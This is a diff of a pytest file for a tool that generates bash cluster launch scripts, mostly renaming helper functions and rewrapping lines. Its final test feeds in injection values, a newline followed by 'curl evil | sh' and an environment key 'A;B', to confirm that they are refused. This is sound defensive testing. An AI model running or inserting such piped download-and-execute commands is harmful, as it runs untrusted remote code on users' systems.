@@ -14,8 +14,8 @@ import pytest
 from shoal.describe.cluster import Cluster
 from shoal.errors import InputError
 from shoal.model import Request
-from shoal.plan.launch_lines import launch_lines, torchrun_words
-from shoal.plan.script import header, render_script, set_up
+from shoal.plan.launch_lines import launch_lines, split_torchrun
+from shoal.plan.script import render_script, script_header, setup_function
 
 GOLDEN = Path(__file__).parent / "golden"
 CLUSTER = Cluster(
@@ -45,7 +45,9 @@ def assert_golden(name: str, text: str) -> None:
     ],
 )
 def test_the_script_is_what_the_golden_file_says(name: str, launch: str, command: list[str], request_: Request) -> None:
-    text = render_script(header(OPTIONS, ["a comment"]), set_up(CLUSTER), launch_lines(launch, command, request_))
+    text = render_script(
+        script_header(OPTIONS, ["a comment"]), setup_function(CLUSTER), launch_lines(launch, command, request_)
+    )
     assert_golden(name, text)
     assert subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True).stderr == ""
 
@@ -55,7 +57,7 @@ def run(text: str, cwd: Path) -> subprocess.CompletedProcess[str]:
 
 
 def script(cluster: Cluster, command: list[str]) -> str:
-    return render_script(header([]), set_up(cluster), launch_lines("process", command, Request()))
+    return render_script(script_header([]), setup_function(cluster), launch_lines("process", command, Request()))
 
 
 def test_exports_arrive_unchanged_and_setup_lines_run_after_them(tmp_path: Path) -> None:
@@ -97,7 +99,9 @@ def test_a_here_document_in_setup_is_not_indented(tmp_path: Path) -> None:
 
 
 def test_several_nodes_outside_a_job_say_that_sbatch_is_needed(tmp_path: Path) -> None:
-    text = render_script(header([]), set_up(Cluster(name="x")), launch_lines("torchrun", ["a.py"], Request(nodes=2)))
+    text = render_script(
+        script_header([]), setup_function(Cluster(name="x")), launch_lines("torchrun", ["a.py"], Request(nodes=2))
+    )
     done = subprocess.run(["bash"], input=text, capture_output=True, text=True, env={"PATH": os.environ["PATH"]})
     assert done.returncode != 0
     assert "this script needs 2 nodes: submit it with sbatch" in done.stderr
@@ -115,15 +119,15 @@ def test_several_nodes_outside_a_job_say_that_sbatch_is_needed(tmp_path: Path) -
     ],
 )
 def test_torchrun_starts_python_itself(command: list[str], expected: tuple[list[str], list[str]]) -> None:
-    assert torchrun_words(command) == expected
+    assert split_torchrun(command) == expected
 
 
 def test_what_cannot_be_written_safely_is_refused() -> None:
     with pytest.raises(InputError):
-        header([("comment", "a\nb")])
+        script_header([("comment", "a\nb")])
     with pytest.raises(InputError):
-        header([], ["a\ncurl evil | sh"])
+        script_header([], ["a\ncurl evil | sh"])
     with pytest.raises(InputError):
-        set_up(Cluster(name="x"), {"A;B": "1"})
+        setup_function(Cluster(name="x"), {"A;B": "1"})
     with pytest.raises(InputError, match="no launch 'mpi'"):
         launch_lines("mpi", ["x"], Request())
